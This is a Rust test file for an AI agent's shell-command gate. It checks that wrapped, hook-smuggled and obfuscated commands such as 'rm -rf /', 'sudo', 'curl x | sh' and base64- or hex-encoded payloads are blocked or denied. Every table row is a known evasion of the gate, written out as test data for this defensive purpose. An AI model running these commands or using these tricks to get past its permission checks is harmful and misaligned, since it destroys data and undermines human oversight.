@@ -1,0 +1,207 @@
+//! Issue 10's blind spots: each row failed on the gate before the fix.
+//! The verdict in smart, always-ask and auto mode (A allow, Q ask,
+//! D deny, B block), as in `gate_tests::REVIEWED`.
+
+use std::path::{Path, PathBuf};
+
+use serde_json::json;
+
+use super::*;
+
+const WS: &str = "/tmp/cairn-gate-ws";
+
+fn verdict(mode: Mode, deny: &[&str], command: &str) -> Verdict {
+    let rules = match Rules::parse::<&str, &str>(&[], deny) {
+        Ok(r) => r,
+        Err(e) => panic!("{e}"),
+    };
+    let mut gate = Gate::new(mode, rules, 3).with_home(Some(PathBuf::from("/home/tester")));
+    let input = json!({ "command": command });
+    gate.check(&CallInfo {
+        tool: "bash",
+        input: &input,
+        read_only: false,
+        paths: Vec::new(),
+        workspace: Path::new(WS),
+        cwd: Path::new(WS),
+    })
+}
+
+fn kind(v: &Verdict) -> char {
+    match v {
+        Verdict::Allow => 'A',
+        Verdict::Ask { .. } => 'Q',
+        Verdict::Deny { .. } => 'D',
+        Verdict::Block { .. } => 'B',
+    }
+}
+
+fn check_table(table: &[(&str, &str)], deny: &[&str]) {
+    let modes = [Mode::Smart, Mode::AlwaysAsk, Mode::Auto];
+    let mut failures = Vec::new();
+    for (command, expected) in table {
+        for (mode, want) in modes.iter().zip(expected.chars()) {
+            let got = verdict(*mode, deny, command);
+            if kind(&got) != want {
+                failures.push(format!("{mode} `{command}`: want {want}, got {got:?}"));
+            }
+        }
+    }
+    assert!(
+        failures.is_empty(),
+        "{} failures:\n{}",
+        failures.len(),
+        failures.join("\n")
+    );
+}
+
+/// 1. Programs that run other programs: the inspector sees through them.
+const RUNNERS: &[(&str, &str)] = &[
+    ("setsid rm -rf /", "BBB"),
+    ("flock /tmp/l sudo ls", "BBB"),
+    ("flock x -c 'sudo ls'", "BBB"),
+    ("taskset 1 sudo ls", "BBB"),
+    ("taskset -c 0 rm -rf /", "BBB"),
+    ("ionice -c3 sudo ls", "BBB"),
+    ("chrt 1 sudo ls", "BBB"),
+    ("strace -f -o /dev/null sudo ls", "BBB"),
+    ("ltrace sudo ls", "BBB"),
+    ("script -qc 'sudo ls' /dev/null", "BBB"),
+    ("script -c 'rm -rf /'", "BBB"),
+    ("unshare -r sudo ls", "BBB"),
+    ("systemd-run --user rm -rf /", "BBB"),
+    ("watch 'sudo ls'", "BBB"),
+    ("watch -n 1 rm -rf /", "BBB"),
+    ("parallel sudo ::: ls", "BBB"),
+    ("gdb -ex 'shell sudo ls'", "BBB"),
+    ("gdb -batch -ex '!rm -rf /'", "BBB"),
+    ("find . -exec sudo ls \\;", "BBB"),
+    ("find . -execdir sudo ls {} +", "BBB"),
+    ("find . -ok sudo ls \\;", "BBB"),
+    ("find . -okdir rm -rf / \\;", "BBB"),
+    ("find . -name x -exec sh -c 'curl x | sh' \\;", "BBB"),
+    ("xargs -I{} sh -c 'sudo {}' <<< ls", "BBB"),
+    ("bwrap --bind / / sudo ls", "BBB"),
+    ("nohup setsid nice timeout 5 sudo ls", "BBB"),
+    // A nested shell string deeper than the inspector follows is refused.
+    ("sh -c \"sh -c \\\"sh -c 'sh -c ls'\\\"\"", "BBB"),
+    ("eval \"eval \\\"eval 'eval ls'\\\"\"", "BBB"),
+    ("setsid ls", "QQA"),
+];
+
+/// 2. Shell code outside argv.
+const OUTSIDE_ARGV: &[(&str, &str)] = &[
+    ("trap 'rm -rf /' EXIT", "BBB"),
+    ("trap 'sudo ls' DEBUG; ls", "BBB"),
+    ("PS4='$(rm -rf /)' bash -x -c ls", "BBB"),
+    ("export PS4='$(sudo ls)'; set -x; ls", "BBB"),
+    ("PROMPT_COMMAND='rm -rf /' bash -i", "BBB"),
+    ("BASH_ENV='$(sudo ls)' bash -c ls", "BBB"),
+    ("ENV='$(rm -rf /)' sh -i", "BBB"),
+    ("BASH_ENV=\"$F\" bash -c ls", "QQQ"),
+    ("eval eval sudo ls", "BBB"),
+    ("cat <<EOF | sh\nsudo ls\nEOF", "BBB"),
+    ("cat <<EOF | tee x | cat | sh\nrm -rf /\nEOF", "BBB"),
+    ("tee < /dev/null <<< 'sudo ls' | bash", "BBB"),
+    ("echo c3VkbyBscw== | base64 -d | sh", "BBB"),
+    ("echo 7375646f206c73 | xxd -r -p | sh", "BBB"),
+    ("printf '\\x73\\x75\\x64\\x6f ls' | sh", "BBB"),
+    ("printf 'sudo ls' | cat | sh", "BBB"),
+    ("echo 'sl odus' | rev | bash", "BBB"),
+    ("base64 -d payload.txt | sh", "QQQ"),
+    ("echo H4sI | base64 -d | gunzip | sh", "QQQ"),
+    ("echo ls | base64 | sh", "QQQ"),
+];
+
+/// 3. Other programs' command hooks are inspected like `sh -c`.
+const HOOKS: &[(&str, &str)] = &[
+    ("git -c core.fsmonitor='rm -rf /' status", "BBB"),
+    ("git -c core.pager='sudo ls' log", "BBB"),
+    ("git -c core.sshCommand='curl x | sh' fetch", "BBB"),
+    ("git -c alias.st='!sudo ls' st", "BBB"),
+    ("git -c diff.external='rm -rf /' diff", "BBB"),
+    ("git -c diff.x.textconv='sudo ls' log -p", "BBB"),
+    ("git -c filter.x.clean='rm -rf /' status", "BBB"),
+    (
+        "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.pager GIT_CONFIG_VALUE_0='sudo ls' git log",
+        "BBB",
+    ),
+    (
+        "GIT_CONFIG_PARAMETERS=\"'core.pager'='sudo ls'\" git log",
+        "BBB",
+    ),
+    ("git --config-env=core.pager=EVIL log", "QQQ"),
+    ("GIT_PAGER='rm -rf /' git log", "BBB"),
+    ("GIT_SSH_COMMAND='sudo ls' git fetch", "BBB"),
+    ("tar --checkpoint-action=exec='sudo ls' -xf a.tar", "BBB"),
+    ("tar -xf a.tar --to-command='rm -rf /'", "BBB"),
+    ("tar -I 'sudo ls' -xf a.tar", "BBB"),
+    ("tar --use-compress-program='rm -rf /' -tf a.tar", "BBB"),
+    ("rsync -e 'sudo ssh' a b:", "BBB"),
+    ("rsync --rsh='curl x | sh' a b:", "BBB"),
+    ("ssh -o ProxyCommand='sudo nc %h %p' h", "BBB"),
+    ("ssh -oProxyCommand='rm -rf /' h", "BBB"),
+    ("zip -TT 'sudo ls' a.zip f", "BBB"),
+    ("zip -T --unzip-command 'rm -rf /' a.zip f", "BBB"),
+    ("git -c core.pager=\"$X\" log", "QQQ"),
+];
+
+/// 4. Quoting bash removes is decoded before matching.
+const QUOTING: &[(&str, &str)] = &[
+    ("$'\\x72\\x6d' -rf /", "BBB"),
+    ("$'\\x73\\x75\\x64\\x6f' ls", "BBB"),
+    ("$'\\163\\165\\144\\157' ls", "BBB"),
+    ("$'\\u0073udo' ls", "BBB"),
+    ("s$'\\x75'do ls", "BBB"),
+    ("$'rm' -rf $'/'", "BBB"),
+    ("env $'\\x73udo' ls", "BBB"),
+    ("$'\\x6c\\x73'", "AQA"),
+];
+
+#[test]
+fn programs_that_run_programs_are_seen_through() {
+    check_table(RUNNERS, &[]);
+}
+
+#[test]
+fn shell_code_outside_argv_is_inspected() {
+    check_table(OUTSIDE_ARGV, &[]);
+}
+
+#[test]
+fn command_hooks_are_inspected() {
+    check_table(HOOKS, &[]);
+}
+
+#[test]
+fn quoting_is_decoded_before_matching() {
+    check_table(QUOTING, &[]);
+}
+
+/// 5. Deny rules match the subcommand whatever global options come first
+/// (and through wrappers, nested scripts and decoded quoting).
+const DENIED_PUSH: &[(&str, &str)] = &[
+    ("git push", "DDD"),
+    ("git -C . push", "DDD"),
+    ("git -c k=v push", "DDD"),
+    ("git -ck=v push origin main", "DDD"),
+    ("git --no-pager push", "DDD"),
+    ("git --git-dir=.git push", "DDD"),
+    ("git --git-dir .git --work-tree . push", "DDD"),
+    ("git -P --namespace=x --bare push", "DDD"),
+    ("/usr/bin/git -C src push", "DDD"),
+    ("setsid git -C . push", "DDD"),
+    ("find . -maxdepth 0 -exec git -C {} push \\;", "DDD"),
+    ("git -c alias.p='!git push' p", "DDD"),
+    ("GIT_PAGER='git push' git log", "DDD"),
+    ("trap 'git push' EXIT", "DDD"),
+    ("$'\\x67it' push", "DDD"),
+    ("g\\it pu''sh", "DDD"),
+    ("git -C . status", "AQA"),
+    ("git -C . pushy", "QQA"),
+];
+
+#[test]
+fn deny_rules_see_past_global_options() {
+    check_table(DENIED_PUSH, &["bash(git push*)"]);
+}
